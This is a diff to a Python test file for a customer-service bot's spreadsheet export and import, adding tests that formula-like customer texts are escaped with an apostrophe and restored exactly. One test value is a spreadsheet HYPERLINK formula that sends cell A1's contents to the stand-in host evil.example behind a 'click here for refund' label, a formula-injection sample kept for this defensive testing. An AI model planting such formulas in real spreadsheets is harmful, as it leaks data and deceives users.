@@ -19,7 +19,13 @@ from bot.cli.sheet import sheet
 from bot.core.settings import PROJECT_ROOT, Settings
 from bot.editor.spreadsheet.export import export_workbook
 from bot.editor.spreadsheet.importing import import_workbook
-from bot.editor.spreadsheet.model import KNOWLEDGE_COLUMNS, NLU_COLUMNS, SheetError
+from bot.editor.spreadsheet.model import (
+    KNOWLEDGE_COLUMNS,
+    NLU_COLUMNS,
+    SheetError,
+    neutralise,
+    restore,
+)
 from kefu_shared.nlu_data import labelled_examples, strip_entities
 from knowledge_index import KnowledgeEntry, load_entries
 
@@ -443,10 +449,55 @@ def test_a_value_starting_with_an_equals_sign_stays_text(
     workbook_path = export_workbook(settings, tmp_path / "again.xlsx")
     worksheet = load_workbook(workbook_path)["knowledge"]
     cell = worksheet.cell(row_of(worksheet, 3, "orders-check-status"), 7)
-    assert (cell.value, cell.data_type) == ("=1+1 is not a formula", "s")
+    assert (cell.value, cell.data_type) == ("'=1+1 is not a formula", "s")  # neutralised
     before = snapshot(settings)
     assert not import_workbook(settings, workbook_path).changed
     assert snapshot(settings) == before
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点这里退款")'
+FORMULA_LIKE = [
+    HYPERLINK,
+    "+86 138 0000 0000 是我的电话",
+    "-1 分也不给",
+    "@客服 在吗",
+    "'=已经带着撇号",
+    "''+两个撇号",
+]
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_formula_like_customer_texts_are_exported_neutralised(
+    settings: Settings, exported: dict[str, Path], tmp_path: Path, suffix: str
+) -> None:
+    rows = read_csv(exported["nlu.csv"])
+    intent = rows[1][1]
+    rows += [[rows[1][0], intent, neutralise(text)] for text in FORMULA_LIKE]  # as exported
+    rows.append([rows[1][0], intent, "'plain apostrophe, no formula"])
+    import_workbook(settings, write_csv(tmp_path / "n.csv", rows))
+    out = export_workbook(settings, tmp_path / f"again{suffix}", "nlu")
+    sheet_ = read_csv(out) if suffix == ".csv" else sheet_rows(out, "nlu")
+    examples = [row[2] for row in sheet_]
+    for text in FORMULA_LIKE:
+        assert "'" + text in examples and text not in examples, text
+    assert "'plain apostrophe, no formula" in examples  # nothing to neutralise
+    if suffix == ".xlsx":
+        for row in load_workbook(out)["nlu"].iter_rows():
+            assert all(cell.data_type == "s" for cell in row)
+    # the data holds the texts as given; back again, the escape is removed exactly
+    in_data = {example for example, _ in labelled_examples(settings.nlu_dir)}
+    assert set(FORMULA_LIKE) <= in_data
+    before = snapshot(settings)
+    assert not import_workbook(settings, out).changed
+    assert snapshot(settings) == before
+
+
+def test_neutralise_and_restore_are_inverse() -> None:
+    values = [*FORMULA_LIKE, "", "'", "''", "'x", "x=1", "普通的问题", "=", "'''@", "\r", "\t缩进"]
+    for value in values:
+        assert restore(neutralise(value)) == value, value
+        assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
+    assert neutralise(HYPERLINK) == "'" + HYPERLINK
 
 
 def test_dry_run_counts_but_writes_nothing(
